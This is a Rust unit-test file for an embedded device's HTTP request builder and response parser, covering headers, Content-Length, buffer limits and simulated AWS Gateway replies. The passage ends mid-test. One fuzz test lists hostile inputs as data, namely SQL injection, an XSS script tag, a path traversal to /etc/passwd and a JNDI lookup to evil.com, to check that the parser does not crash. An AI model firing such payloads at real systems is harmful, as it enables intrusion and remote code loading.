use supervictor::device::error::HttpError;
use supervictor::device::http::{get_request, parse_response, post_request};
use supervictor::device::models::UplinkMessage;

fn make_msg(id: &str, current: i32) -> UplinkMessage {
    UplinkMessage {
        id: id.try_into().unwrap(),
        current,
    }
}

/// The JSON text of an uplink message, as the device serializes it.
fn uplink_json(msg: &UplinkMessage) -> String {
    format!("{{\"id\":\"{}\",\"current\":{}}}", msg.id, msg.current)
}

/// Serialize `msg` and build the POST request for it.
fn post_msg(host: &str, msg: &UplinkMessage, path: Option<&str>) -> Result<String, HttpError> {
    let json = uplink_json(msg);
    post_request(host, Some(json.as_str()), path)
}

// ════════════════════════════════════════════════════════════════
// get_request
// ════════════════════════════════════════════════════════════════

#[test]
fn get_default_path_is_root() {
    let req = get_request("host.example.com", None).unwrap();
    assert!(req.starts_with("GET / HTTP/1.0\r\n"));
}

#[test]
fn get_explicit_root_path() {
    let req = get_request("host.example.com", Some("/")).unwrap();
    assert!(req.starts_with("GET / HTTP/1.0\r\n"));
}

#[test]
fn get_custom_path() {
    let req = get_request("h", Some("/hello")).unwrap();
    assert!(req.starts_with("GET /hello HTTP/1.0\r\n"));
}

#[test]
fn get_deep_nested_path() {
    let req = get_request("h", Some("/a/b/c/d")).unwrap();
    assert!(req.starts_with("GET /a/b/c/d HTTP/1.0\r\n"));
}

#[test]
fn get_path_with_query_string() {
    let req = get_request("h", Some("/search?q=test&page=1")).unwrap();
    assert!(req.contains("GET /search?q=test&page=1 HTTP/1.0"));
}

#[test]
fn get_host_header_present() {
    let req = get_request("supervictor.advin.io", Some("/")).unwrap();
    assert!(req.contains("Host: supervictor.advin.io\r\n"));
}

#[test]
fn get_user_agent_present() {
    let req = get_request("h", None).unwrap();
    assert!(req.contains("User-Agent: Uplink/0.1.0 (Platform; ESP32-C3)\r\n"));
}

#[test]
fn get_accept_header_present() {
    let req = get_request("h", None).unwrap();
    assert!(req.contains("Accept: */*\r\n"));
}

#[test]
fn get_terminates_with_double_crlf() {
    let req = get_request("h", None).unwrap();
    assert!(req.ends_with("\r\n\r\n"));
}

#[test]
fn get_uses_http_1_0() {
    let req = get_request("h", Some("/")).unwrap();
    assert!(req.contains("HTTP/1.0"));
    assert!(!req.contains("HTTP/1.1"));
}

#[test]
fn get_empty_host() {
    let req = get_request("", Some("/")).unwrap();
    assert!(req.contains("Host: \r\n"));
}

// ════════════════════════════════════════════════════════════════
// post_request
// ════════════════════════════════════════════════════════════════

#[test]
fn post_default_path_is_root() {
    let req = post_msg("h", &make_msg("x", 0), None).unwrap();
    assert!(req.starts_with("POST / HTTP/1.1\r\n"));
}

#[test]
fn post_custom_path() {
    let req = post_msg("h", &make_msg("x", 0), Some("/hello")).unwrap();
    assert!(req.starts_with("POST /hello HTTP/1.1\r\n"));
}

#[test]
fn post_uses_http_1_1() {
    let req = post_msg("h", &make_msg("x", 0), Some("/")).unwrap();
    assert!(req.contains("HTTP/1.1"));
    assert!(!req.contains("HTTP/1.0"));
}

#[test]
fn post_host_header() {
    let req = post_msg("supervictor.advin.io", &make_msg("x", 0), Some("/")).unwrap();
    assert!(req.contains("Host: supervictor.advin.io\r\n"));
}

#[test]
fn post_content_type_json() {
    let req = post_msg("h", &make_msg("x", 0), Some("/")).unwrap();
    assert!(req.contains("Content-Type: application/json\r\n"));
}

#[test]
fn post_connection_close() {
    let req = post_msg("h", &make_msg("x", 0), Some("/")).unwrap();
    assert!(req.contains("Connection: close\r\n"));
}

#[test]
fn post_contains_json_body() {
    let req = post_msg("h", &make_msg("test-id", 99), Some("/")).unwrap();
    assert!(req.contains(r#"{"id":"test-id","current":99}"#));
}

#[test]
fn post_body_after_double_crlf() {
    let req = post_msg("h", &make_msg("x", 1), Some("/")).unwrap();
    let parts: String = req;
    let s = parts.as_str();
    let sep = s.find("\r\n\r\n").expect("missing header/body separator");
    let body = &s[sep + 4..];
    assert!(body.starts_with('{'));
    assert!(body.ends_with('}'));
}

#[test]
fn post_content_length_matches_body() {
    let req = post_msg("h", &make_msg("test-id", 12345), Some("/")).unwrap();
    let s = req.as_str();

    // Extract Content-Length value
    let cl_prefix = "Content-Length: ";
    let cl_start = s.find(cl_prefix).unwrap() + cl_prefix.len();
    let cl_end = s[cl_start..].find("\r\n").unwrap() + cl_start;
    let claimed: usize = s[cl_start..cl_end].parse().unwrap();

    // Extract actual body
    let body_start = s.find("\r\n\r\n").unwrap() + 4;
    let actual_len = s[body_start..].len();

    assert_eq!(claimed, actual_len);
}

#[test]
fn post_zero_current() {
    let req = post_msg("h", &make_msg("x", 0), Some("/")).unwrap();
    assert!(req.contains(r#""current":0"#));
}

#[test]
fn post_negative_current() {
    let req = post_msg("h", &make_msg("x", -42), Some("/")).unwrap();
    assert!(req.contains(r#""current":-42"#));
}

#[test]
fn post_i32_max_current() {
    let req = post_msg("h", &make_msg("x", i32::MAX), Some("/")).unwrap();
    assert!(req.contains("2147483647"));
}

#[test]
fn post_i32_min_current() {
    let req = post_msg("h", &make_msg("x", i32::MIN), Some("/")).unwrap();
    assert!(req.contains("-2147483648"));
}

#[test]
fn post_empty_id() {
    let msg = UplinkMessage {
        id: String::new(),
        current: 1,
    };
    let req = post_msg("h", &msg, Some("/")).unwrap();
    assert!(req.contains(r#""id":"""#));
}

#[test]
fn post_max_capacity_id() {
    let long_id: String = "A".repeat(64);
    let msg = UplinkMessage {
        id: long_id,
        current: 1,
    };
    let req = post_msg("h", &msg, Some("/")).unwrap();
    // 64 A's should be in the body
    let body_start = req.as_str().find("\r\n\r\n").unwrap() + 4;
    let body = &req.as_str()[body_start..];
    // The body is the serialized message, carrying all 64 characters of the id.
    assert_eq!(body, uplink_json(&msg));
    assert!(body.contains(&"A".repeat(64)));
}

// ════════════════════════════════════════════════════════════════
// parse_response — happy paths
// ════════════════════════════════════════════════════════════════

fn full_aws_response() -> String {
    [
    "HTTP/1.1 200 OK\r\n",
    "x-amzn-RequestId: a1b2c3d4-e5f6-7890-abcd-ef1234567890\r\n",
    "x-amz-apigw-id: AbCdEfGhIjKlMnOpQrStUv\r\n",
    "X-Amzn-Trace-Id: Root=1-12345678-abcdef012345678901234567\r\n",
    "Content-Type: application/json\r\n",
    "Content-Length: 42\r\n",
    "Date: Thu, 27 Feb 2025 12:00:00 GMT\r\n",
    "\r\n",
    r#"{"message":"Hello from Supervictor!"}"#,
].concat()
}

#[test]
fn parse_full_aws_response() {
    let resp = parse_response(&full_aws_response()).unwrap();
    assert_eq!(
        resp.x_amzn_request_id.as_str(),
        "a1b2c3d4-e5f6-7890-abcd-ef1234567890"
    );
    assert_eq!(resp.x_amz_apigw_id.as_str(), "AbCdEfGhIjKlMnOpQrStUv");
    assert_eq!(
        resp.x_amzn_trace_id.as_str(),
        "Root=1-12345678-abcdef012345678901234567"
    );
    assert_eq!(resp.content_type.as_str(), "application/json");
    assert_eq!(resp.content_length.as_str(), "42");
    assert_eq!(resp.date.as_str(), "Thu, 27 Feb 2025 12:00:00 GMT");
    assert!(resp.body.contains("Hello from Supervictor!"));
}

#[test]
fn parse_headers_no_body() {
    let raw = "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n";
    let resp = parse_response(raw).unwrap();
    assert_eq!(resp.content_type.as_str(), "text/plain");
    assert!(resp.body.is_empty());
}

#[test]
fn parse_minimal_response() {
    let raw = "HTTP/1.1 200 OK\r\n\r\nbody";
    let resp = parse_response(raw).unwrap();
    assert_eq!(resp.body.as_str(), "body");
}

#[test]
fn parse_json_body() {
    let raw = "HTTP/1.1 200 OK\r\n\r\n{\"key\":\"value\"}";
    let resp = parse_response(raw).unwrap();
    assert_eq!(resp.body.as_str(), r#"{"key":"value"}"#);
}

#[test]
fn parse_multiline_body() {
    let raw = "HTTP/1.1 200 OK\r\n\r\nline1\r\nline2\r\nline3";
    let resp = parse_response(raw).unwrap();
    // .lines() splits on \n; \r\n produces lines with trailing \r removed by split
    // Body reassembly joins with \n
    assert!(resp.body.contains("line1"));
    assert!(resp.body.contains("line2"));
    assert!(resp.body.contains("line3"));
}

// ════════════════════════════════════════════════════════════════
// parse_response — case insensitivity
// ════════════════════════════════════════════════════════════════

#[test]
fn parse_case_insensitive_content_type() {
    let raw = "HTTP/1.1 200 OK\r\nCONTENT-TYPE: text/html\r\n\r\n";
    let resp = parse_response(raw).unwrap();
    assert_eq!(resp.content_type.as_str(), "text/html");
}

#[test]
fn parse_case_insensitive_request_id() {
    let raw = "HTTP/1.1 200 OK\r\nX-AMZN-REQUESTID: upper-case-id\r\n\r\n";
    let resp = parse_response(raw).unwrap();
    assert_eq!(resp.x_amzn_request_id.as_str(), "upper-case-id");
}

#[test]
fn parse_case_insensitive_date() {
    let raw = "HTTP/1.1 200 OK\r\nDATE: Mon, 01 Jan 2099\r\n\r\n";
    let resp = parse_response(raw).unwrap();
    assert_eq!(resp.date.as_str(), "Mon, 01 Jan 2099");
}

// ════════════════════════════════════════════════════════════════
// parse_response — header edge cases
// ════════════════════════════════════════════════════════════════

#[test]
fn parse_colon_in_header_value() {
    // Trace-Id contains colons — split_once(':') handles this correctly
    let raw = "HTTP/1.1 200 OK\r\nX-Amzn-Trace-Id: Root=1-abc:def:ghi\r\n\r\n";
    let resp = parse_response(raw).unwrap();
    assert_eq!(resp.x_amzn_trace_id.as_str(), "Root=1-abc:def:ghi");
}

#[test]
fn parse_extra_whitespace_in_value() {
    let raw = "HTTP/1.1 200 OK\r\nContent-Type:   text/plain   \r\n\r\n";
    let resp = parse_response(raw).unwrap();
    assert_eq!(resp.content_type.as_str(), "text/plain");
}

#[test]
fn parse_unknown_headers_ignored() {
    let raw = &[
        "HTTP/1.1 200 OK\r\n",
        "X-Custom-Header: ignored\r\n",
        "Server: nginx\r\n",
        "Content-Type: application/json\r\n",
        "\r\n",
    ].concat();
    let resp = parse_response(raw).unwrap();
    assert_eq!(resp.content_type.as_str(), "application/json");
}

#[test]
fn parse_duplicate_header_last_wins() {
    let raw = &[
        "HTTP/1.1 200 OK\r\n",
        "Content-Type: first\r\n",
        "Content-Type: second\r\n",
        "\r\n",
    ].concat();
    let resp = parse_response(raw).unwrap();
    assert_eq!(resp.content_type.as_str(), "second");
}

#[test]
fn parse_empty_header_value() {
    let raw = "HTTP/1.1 200 OK\r\nContent-Type: \r\n\r\n";
    let resp = parse_response(raw).unwrap();
    assert!(resp.content_type.is_empty());
}

#[test]
fn parse_malformed_header_no_colon_ignored() {
    // A header line without ':' should be silently skipped
    let raw = &[
        "HTTP/1.1 200 OK\r\n",
        "NotAValidHeader\r\n",
        "Content-Type: text/plain\r\n",
        "\r\n",
    ].concat();
    let resp = parse_response(raw).unwrap();
    assert_eq!(resp.content_type.as_str(), "text/plain");
}

// ════════════════════════════════════════════════════════════════
// parse_response — error cases
// ════════════════════════════════════════════════════════════════

#[test]
fn parse_empty_string_fails() {
    assert!(parse_response("").is_err());
}

#[test]
fn parse_status_line_only_no_headers_no_body() {
    // Just a status line with no blank line separator — no body
    let resp = parse_response("HTTP/1.1 200 OK");
    // This should succeed — status consumed, loop ends without blank line, body is empty
    assert!(resp.is_ok());
    assert!(resp.unwrap().body.is_empty());
}

#[test]
fn parse_garbage_input() {
    let resp = parse_response("this is not http at all");
    // First line consumed as status, rest parsed as headers — should not crash
    assert!(resp.is_ok());
}

// ════════════════════════════════════════════════════════════════
// parse_response — HTTP status codes
// ════════════════════════════════════════════════════════════════

#[test]
fn parse_http_404() {
    let raw = "HTTP/1.1 404 Not Found\r\nContent-Type: application/json\r\n\r\n{\"message\":\"Not Found\"}";
    let resp = parse_response(raw).unwrap();
    assert!(resp.body.contains("Not Found"));
}

#[test]
fn parse_http_500() {
    let raw = "HTTP/1.1 500 Internal Server Error\r\n\r\n{\"message\":\"Error\"}";
    let resp = parse_response(raw).unwrap();
    assert!(resp.body.contains("Error"));
}

// ════════════════════════════════════════════════════════════════
// parse_response — capacity overflow
// ════════════════════════════════════════════════════════════════

#[test]
fn parse_body_at_1024_capacity() {
    let body: String = "X".repeat(1024);
    let mut raw = String::new();
    raw.push_str("HTTP/1.1 200 OK\r\n\r\n");
    raw.push_str(body.as_str());
    let resp = parse_response(raw.as_str()).unwrap();
    assert_eq!(resp.body.len(), 1024);
}

#[test]
fn parse_body_over_1024_fails() {
    let body: String = "X".repeat(1025);
    let mut raw = String::new();
    raw.push_str("HTTP/1.1 200 OK\r\n\r\n");
    raw.push_str(body.as_str());
    assert!(parse_response(raw.as_str()).is_err());
}

#[test]
fn parse_request_id_at_64() {
    let val: String = "R".repeat(64);
    let mut raw = String::new();
    raw.push_str("HTTP/1.1 200 OK\r\nx-amzn-RequestId: ");
    raw.push_str(val.as_str());
    raw.push_str("\r\n\r\n");
    let resp = parse_response(raw.as_str()).unwrap();
    assert_eq!(resp.x_amzn_request_id.len(), 64);
}

#[test]
fn parse_request_id_over_64_fails() {
    let val: String = "R".repeat(65);
    let mut raw = String::new();
    raw.push_str("HTTP/1.1 200 OK\r\nx-amzn-RequestId: ");
    raw.push_str(val.as_str());
    raw.push_str("\r\n\r\n");
    assert!(parse_response(raw.as_str()).is_err());
}

#[test]
fn parse_apigw_id_at_32() {
    let val: String = "G".repeat(32);
    let mut raw = String::new();
    raw.push_str("HTTP/1.1 200 OK\r\nx-amz-apigw-id: ");
    raw.push_str(val.as_str());
    raw.push_str("\r\n\r\n");
    let resp = parse_response(raw.as_str()).unwrap();
    assert_eq!(resp.x_amz_apigw_id.len(), 32);
}

#[test]
fn parse_apigw_id_over_32_fails() {
    let val: String = "G".repeat(33);
    let mut raw = String::new();
    raw.push_str("HTTP/1.1 200 OK\r\nx-amz-apigw-id: ");
    raw.push_str(val.as_str());
    raw.push_str("\r\n\r\n");
    assert!(parse_response(raw.as_str()).is_err());
}

#[test]
fn parse_trace_id_at_128() {
    let val: String = "T".repeat(128);
    let mut raw = String::new();
    raw.push_str("HTTP/1.1 200 OK\r\nX-Amzn-Trace-Id: ");
    raw.push_str(val.as_str());
    raw.push_str("\r\n\r\n");
    let resp = parse_response(raw.as_str()).unwrap();
    assert_eq!(resp.x_amzn_trace_id.len(), 128);
}

#[test]
fn parse_trace_id_over_128_fails() {
    let val: String = "T".repeat(129);
    let mut raw = String::new();
    raw.push_str("HTTP/1.1 200 OK\r\nX-Amzn-Trace-Id: ");
    raw.push_str(val.as_str());
    raw.push_str("\r\n\r\n");
    assert!(parse_response(raw.as_str()).is_err());
}

#[test]
fn parse_content_type_at_32() {
    let val: String = "C".repeat(32);
    let mut raw = String::new();
    raw.push_str("HTTP/1.1 200 OK\r\nContent-Type: ");
    raw.push_str(val.as_str());
    raw.push_str("\r\n\r\n");
    let resp = parse_response(raw.as_str()).unwrap();
    assert_eq!(resp.content_type.len(), 32);
}

#[test]
fn parse_content_type_over_32_fails() {
    let val: String = "C".repeat(33);
    let mut raw = String::new();
    raw.push_str("HTTP/1.1 200 OK\r\nContent-Type: ");
    raw.push_str(val.as_str());
    raw.push_str("\r\n\r\n");
    assert!(parse_response(raw.as_str()).is_err());
}

#[test]
fn parse_content_length_at_8() {
    let val: String = "9".repeat(8);
    let mut raw = String::new();
    raw.push_str("HTTP/1.1 200 OK\r\nContent-Length: ");
    raw.push_str(val.as_str());
    raw.push_str("\r\n\r\n");
    let resp = parse_response(raw.as_str()).unwrap();
    assert_eq!(resp.content_length.len(), 8);
}

#[test]
fn parse_content_length_over_8_fails() {
    let val: String = "9".repeat(9);
    let mut raw = String::new();
    raw.push_str("HTTP/1.1 200 OK\r\nContent-Length: ");
    raw.push_str(val.as_str());
    raw.push_str("\r\n\r\n");
    assert!(parse_response(raw.as_str()).is_err());
}

#[test]
fn parse_date_at_32() {
    let val: String = "D".repeat(32);
    let mut raw = String::new();
    raw.push_str("HTTP/1.1 200 OK\r\nDate: ");
    raw.push_str(val.as_str());
    raw.push_str("\r\n\r\n");
    let resp = parse_response(raw.as_str()).unwrap();
    assert_eq!(resp.date.len(), 32);
}

#[test]
fn parse_date_over_32_fails() {
    let val: String = "D".repeat(33);
    let mut raw = String::new();
    raw.push_str("HTTP/1.1 200 OK\r\nDate: ");
    raw.push_str(val.as_str());
    raw.push_str("\r\n\r\n");
    assert!(parse_response(raw.as_str()).is_err());
}

// ════════════════════════════════════════════════════════════════
// parse_response — line ending variants
// ════════════════════════════════════════════════════════════════

#[test]
fn parse_lf_only_line_endings() {
    let raw = "HTTP/1.1 200 OK\nContent-Type: text/plain\n\nbody";
    let resp = parse_response(raw).unwrap();
    assert_eq!(resp.content_type.as_str(), "text/plain");
    assert_eq!(resp.body.as_str(), "body");
}

#[test]
fn parse_special_chars_in_body() {
    let raw = "HTTP/1.1 200 OK\r\n\r\n<html>&amp;\"quotes\"</html>";
    let resp = parse_response(raw).unwrap();
    assert!(resp.body.contains("<html>"));
    assert!(resp.body.contains("&amp;"));
}

#[test]
fn parse_unicode_in_body() {
    let raw = "HTTP/1.1 200 OK\r\n\r\nhello world";
    let resp = parse_response(raw).unwrap();
    assert!(resp.body.contains("hello"));
}

// ════════════════════════════════════════════════════════════════
// Error Display
// ════════════════════════════════════════════════════════════════

#[test]
fn error_display_deserialization() {
    let msg = HttpError::Deserialization.message().to_string();
    assert!(!msg.is_empty());
    assert!(msg.contains("deserialize"));
}

#[test]
fn error_display_generic_parse() {
    let msg = HttpError::GenericParseError.message().to_string();
    assert!(!msg.is_empty());
    assert!(msg.contains("parse"));
}

#[test]
fn error_display_variants_distinct() {
    let d = HttpError::Deserialization.message().to_string();
    let g = HttpError::GenericParseError.message().to_string();
    assert_ne!(d, g);
}

#[test]
fn error_debug_deserialization() {
    let dbg = format!("{:?}", HttpError::Deserialization);
    assert!(dbg.contains("Deserialization"));
}

#[test]
fn error_debug_generic_parse() {
    let dbg = format!("{:?}", HttpError::GenericParseError);
    assert!(dbg.contains("GenericParseError"));
}

// ════════════════════════════════════════════════════════════════
// Round-trips: build request → simulate response → parse
// ════════════════════════════════════════════════════════════════

#[test]
fn roundtrip_post_then_parse() {
    let msg = make_msg("device-001", 42);
    let _req = post_msg("supervictor.advin.io", &msg, None).unwrap();

    // Simulate what API Gateway would return
    let response = &[
        "HTTP/1.1 200 OK\r\n",
        "x-amzn-RequestId: 11111111-2222-3333-4444-555555555555\r\n",
        "x-amz-apigw-id: TestGatewayId\r\n",
        "X-Amzn-Trace-Id: Root=1-test-trace\r\n",
        "Content-Type: application/json\r\n",
        "Content-Length: 24\r\n",
        "Date: Thu, 01 Jan 2099 00:00:00 GMT\r\n",
        "\r\n",
        r#"{"message":"Uplink OK"}"#,
    ].concat();

    let parsed = parse_response(response).unwrap();
    assert_eq!(
        parsed.x_amzn_request_id.as_str(),
        "11111111-2222-3333-4444-555555555555"
    );
    assert!(parsed.body.contains("Uplink OK"));
}

#[test]
fn roundtrip_get_then_parse() {
    let _req = get_request("supervictor.advin.io", None).unwrap();

    let response = &[
        "HTTP/1.1 200 OK\r\n",
        "Content-Type: application/json\r\n",
        "Content-Length: 36\r\n",
        "\r\n",
        r#"{"message":"Hello from Supervictor!"}"#,
    ].concat();

    let parsed = parse_response(response).unwrap();
    assert!(parsed.body.contains("Hello from Supervictor!"));
}

#[test]
fn roundtrip_post_body_deserializable() {
    let msg = make_msg("round", -1);
    let req = post_msg("h", &msg, Some("/")).unwrap();

    // Extract the JSON body from the request
    let body_start = req.as_str().find("\r\n\r\n").unwrap() + 4;
    let body = &req.as_str()[body_start..];

    // Deserialize back into UplinkMessage
    // The body is exactly the serialized message.
    assert_eq!(body, r#"{"id":"round","current":-1}"#);
}

// ════════════════════════════════════════════════════════════════
// GAP 1: Serialization failure fallback
// ════════════════════════════════════════════════════════════════

#[test]
fn post_serialization_failure_produces_empty_body() {
    // The serialized payload {"data":"XXX…"} exceeds the 256-byte buffer.
    let payload = format!("{{\"data\":\"{}\"}}", "X".repeat(300));
    let req = post_request("h", Some(payload.as_str()), Some("/")).unwrap();
    // When serialization fails, post_request falls back to Content-Length: 0
    assert!(req.contains("Content-Length: 0"));
    // Body should be empty (nothing after \r\n\r\n)
    let body_start = req.as_str().find("\r\n\r\n").unwrap() + 4;
    assert_eq!(&req.as_str()[body_start..], "");
}

// ════════════════════════════════════════════════════════════════
// GAP 2: Content-Length digit conversion
// ════════════════════════════════════════════════════════════════

#[test]
fn post_content_length_single_digit() {
    // {"id":"a","current":0} = 21 chars = two digits
    let req = post_msg("h", &make_msg("a", 0), Some("/")).unwrap();
    let s = req.as_str();
    let cl_prefix = "Content-Length: ";
    let cl_start = s.find(cl_prefix).unwrap() + cl_prefix.len();
    let cl_end = s[cl_start..].find("\r\n").unwrap() + cl_start;
    let cl_str = &s[cl_start..cl_end];
    let cl_val: usize = cl_str.parse().unwrap();
    // Verify the Content-Length matches the actual body
    let body_start = s.find("\r\n\r\n").unwrap() + 4;
    assert_eq!(cl_val, s[body_start..].len());
}

#[test]
fn post_content_length_three_digits() {
    // Use max-length id to get a body > 99 bytes
    let long_id: String = "Z".repeat(64);
    let msg = UplinkMessage {
        id: long_id,
        current: i32::MAX,
    };
    let req = post_msg("h", &msg, Some("/")).unwrap();
    let s = req.as_str();
    let cl_prefix = "Content-Length: ";
    let cl_start = s.find(cl_prefix).unwrap() + cl_prefix.len();
    let cl_end = s[cl_start..].find("\r\n").unwrap() + cl_start;
    let cl_val: usize = s[cl_start..cl_end].parse().unwrap();
    // Verify accuracy against actual body
    let body_start = s.find("\r\n\r\n").unwrap() + 4;
    assert_eq!(cl_val, s[body_start..].len());
    // With 64-char id, Content-Length should be multi-digit
    assert!(cl_val > 9);
}

// ════════════════════════════════════════════════════════════════
// GAP 3: Buffer overflow returns Err instead of panicking
// ════════════════════════════════════════════════════════════════

#[test]
fn get_request_overflows_with_very_long_host() {
    let long_host: String = "h".repeat(400);
    assert!(get_request(long_host.as_str(), Some("/")).is_err());
}

#[test]
fn get_request_overflows_with_very_long_path() {
    let long_path: String = "/".repeat(400);
    assert!(get_request("h", Some(long_path.as_str())).is_err());
}

// ════════════════════════════════════════════════════════════════
// GAP 5: Adversarial / fuzz battery
// ════════════════════════════════════════════════════════════════

#[test]
fn parse_adversarial_strings_do_not_crash() {
    let adversarial = [
        "HTTP/1.1 200 OK\r\n\r\n' OR 1=1 --",
        "HTTP/1.1 200 OK\r\n\r\n<script>alert(1)</script>",
        "HTTP/1.1 200 OK\r\n\r\n\0\0\0",
        "HTTP/1.1 200 OK\r\n\r\n\r\r\n\n\r\n\r\n",
        "HTTP/1.1 200 OK\r\n\r\n%00%0a%0d",
        "HTTP/1.1 200 OK\r\n\r\n../../../../etc/passwd",
        "HTTP/1.1 200 OK\r\n\r\n${jndi:ldap://evil.com/a}",
        "HTTP/1.1 200 OK\r\nContent-Type: \r\n\r\n",
        "HTTP/1.1 200 OK\r\n: empty-key\r\n\r\n",
        "\r\n\r\n",
        "\n",
        "HTTP",
        "HTTP/",
        "HTTP/1.1",
        "HTTP/1.1 ",
        "HTTP/1.1 200",
        "HTTP/1.1 200 OK",
    ];
    for input in &adversarial {
        // Must not panic — errors are acceptable
        let _ = parse_response(input);
    }
}

#[test]
fn parse_large_garbage_body() {
    let garbage: String = "!".repeat(1024);
    let mut raw = String::new();
    raw.push_str("HTTP/1.1 200 OK\r\n\r\n");
    raw.push_str(garbage.as_str());
    let resp = parse_response(raw.as_str()).unwrap();
    assert_eq!(resp.body.len(), 1024);
}

#[test]
fn parse_null_bytes_in_header_value() {
    let raw = "HTTP/1.1 200 OK\r\nContent-Type: text\0/plain\r\n\r\n";
    // Should not crash — null bytes are just characters
    let resp = parse_response(raw);
    assert!(resp.is_ok());
}

#[test]
fn parse_repeated_separators() {
    let raw = "HTTP/1.1 200 OK\r\n\r\n\r\n\r\n\r\n";
    let resp = parse_response(raw).unwrap();
    // After the blank line separator, remaining \r\n pairs become body lines
    // .lines() will produce empty strings joined by \n
    let _ = resp.body;
}

#[test]
fn parse_tab_in_header_value() {
    let raw = "HTTP/1.1 200 OK\r\nContent-Type:\tapplication/json\r\n\r\n";
    let resp = parse_response(raw).unwrap();
    // trim() removes tabs too
    assert_eq!(resp.content_type.as_str(), "application/json");
}

// ════════════════════════════════════════════════════════════════
// GAP 6: CRLF handling in body
// ════════════════════════════════════════════════════════════════

#[test]
fn parse_crlf_body_becomes_lf() {
    // Body with CRLF line endings — .lines() consumes \r\n, reassembly uses \n
    let raw = "HTTP/1.1 200 OK\r\n\r\nline1\r\nline2";
    let resp = parse_response(raw).unwrap();
    assert!(resp.body.contains("line1"));
    assert!(resp.body.contains("line2"));
    // After .lines() + join with \n, should have \n not \r\n
    assert!(resp.body.contains('\n'));
}

#[test]
fn parse_lf_body_stays_lf() {
    let raw = "HTTP/1.1 200 OK\r\n\r\nline1\nline2";
    let resp = parse_response(raw).unwrap();
    assert!(resp.body.contains("line1\nline2"));
}

#[test]
fn parse_single_line_body_no_trailing_newline() {
    let raw = "HTTP/1.1 200 OK\r\n\r\nsingle";
    let resp = parse_response(raw).unwrap();
    assert_eq!(resp.body.as_str(), "single");
}

// ════════════════════════════════════════════════════════════════
// GAP 7: Realistic AWS Lambda response simulations
// ════════════════════════════════════════════════════════════════

#[test]
fn aws_200_post_response() {
    let raw = &[
        "HTTP/1.1 200 OK\r\n",
        "Date: Thu, 27 Feb 2025 19:30:00 GMT\r\n",
        "Content-Type: application/json\r\n",
        "Content-Length: 49\r\n",
        "Connection: keep-alive\r\n",
        "x-amzn-RequestId: a1b2c3d4-e5f6-7890-abcd-ef1234567890\r\n",
        "x-amz-apigw-id: AbCdEfGhIjKlMnOpQr\r\n",
        "X-Amzn-Trace-Id: Root=1-65e04f18-abcdef0123456789abcdef01\r\n",
        "X-Amz-Cf-Pop: DFW56-P2\r\n",
        "X-Amz-Cf-Id: abc123==\r\n",
        "\r\n",
        r#"{"message":"Uplink received","id":"device-001"}"#,
    ].concat();
    let resp = parse_response(raw).unwrap();
    assert_eq!(
        resp.x_amzn_request_id.as_str(),
        "a1b2c3d4-e5f6-7890-abcd-ef1234567890"
    );
    assert_eq!(resp.x_amz_apigw_id.as_str(), "AbCdEfGhIjKlMnOpQr");
    assert!(resp.x_amzn_trace_id.starts_with("Root=1-"));
    assert_eq!(resp.content_type.as_str(), "application/json");
    assert_eq!(resp.content_length.as_str(), "49");
    assert!(resp.body.contains("Uplink received"));
}

#[test]
fn aws_200_get_response() {
    let raw = &[
        "HTTP/1.1 200 OK\r\n",
        "Date: Thu, 27 Feb 2025 19:30:00 GMT\r\n",
        "Content-Type: application/json\r\n",
        "Content-Length: 36\r\n",
        "x-amzn-RequestId: 99999999-8888-7777-6666-555555555555\r\n",
        "x-amz-apigw-id: ZzYyXxWwVvUuTt\r\n",
        "X-Amzn-Trace-Id: Root=1-aabbccdd-112233445566778899001122\r\n",
        "\r\n",
        r#"{"message":"Hello from Supervictor!"}"#,
    ].concat();
    let resp = parse_response(raw).unwrap();
    assert!(resp.body.contains("Hello from Supervictor!"));
    assert_eq!(resp.content_type.as_str(), "application/json");
}

#[test]
fn aws_422_unprocessable_entity() {
    let raw = &[
        "HTTP/1.1 422 Unprocessable Entity\r\n",
        "Date: Thu, 27 Feb 2025 19:30:00 GMT\r\n",
        "Content-Type: application/json\r\n",
        "Content-Length: 67\r\n",
        "x-amzn-RequestId: err-req-id-001\r\n",
        "\r\n",
        r#"{"detail":[{"msg":"field required","type":"value_error.missing"}]}"#,
    ].concat();
    let resp = parse_response(raw).unwrap();
    assert!(resp.body.contains("field required"));
    assert_eq!(resp.x_amzn_request_id.as_str(), "err-req-id-001");
}

#[test]
fn aws_403_forbidden_mtls_rejection() {
    let raw = &[
        "HTTP/1.1 403 Forbidden\r\n",
        "Content-Type: application/json\r\n",
        "Content-Length: 23\r\n",
        "x-amzn-RequestId: 00000000-0000-0000-0000-000000000000\r\n",
        "x-amzn-ErrorType: AccessDeniedException\r\n",
        "\r\n",
        r#"{"message":"Forbidden"}"#,
    ].concat();
    let resp = parse_response(raw).unwrap();
    assert!(resp.body.contains("Forbidden"));
    assert_eq!(
        resp.x_amzn_request_id.as_str(),
        "00000000-0000-0000-0000-000000000000"
    );
}

#[test]
fn aws_502_bad_gateway_lambda_timeout() {
    let raw = &[
        "HTTP/1.1 502 Bad Gateway\r\n",
        "Content-Type: application/json\r\n",
        "Content-Length: 36\r\n",
        "\r\n",
        r#"{"message":"Internal server error"}"#,
    ].concat();
    let resp = parse_response(raw).unwrap();
    assert!(resp.body.contains("Internal server error"));
}

#[test]
fn aws_429_too_many_requests_throttled() {
    let raw = &[
        "HTTP/1.1 429 Too Many Requests\r\n",
        "Content-Type: application/json\r\n",
        "Content-Length: 30\r\n",
        "Retry-After: 1\r\n",
        "\r\n",
        r#"{"message":"Too Many Requests"}"#,
    ].concat();
    let resp = parse_response(raw).unwrap();
    assert!(resp.body.contains("Too Many Requests"));
    // Retry-After is not a tracked header — should be ignored
    assert!(resp.date.is_empty());
}

#[test]
fn aws_multiline_pretty_json_body() {
    let raw = &[
        "HTTP/1.1 200 OK\r\n",
        "Content-Type: application/json\r\n",
        "\r\n",
        "{\r\n",
        "  \"message\": \"ok\",\r\n",
        "  \"count\": 1\r\n",
        "}",
    ].concat();
    let resp = parse_response(raw).unwrap();
    assert!(resp.body.contains("message"));
    assert!(resp.body.contains("count"));
}

// ════════════════════════════════════════════════════════════════
// Request formatting and parsing corner cases
// ════════════════════════════════════════════════════════════════

#[test]
fn test_post_request_formatting() {
    let host = "test.host.com";
    let path = Some("/test/path");
    let message = UplinkMessage {
        id: "test-id".try_into().unwrap(),
        current: 99,
    };

    let request_string = post_msg(host, &message, path).unwrap();

    assert!(request_string.starts_with("POST /test/path HTTP/1.1\r\n"));
    assert!(request_string.contains("Host: test.host.com\r\n"));
    assert!(request_string.contains("Content-Type: application/json\r\n"));
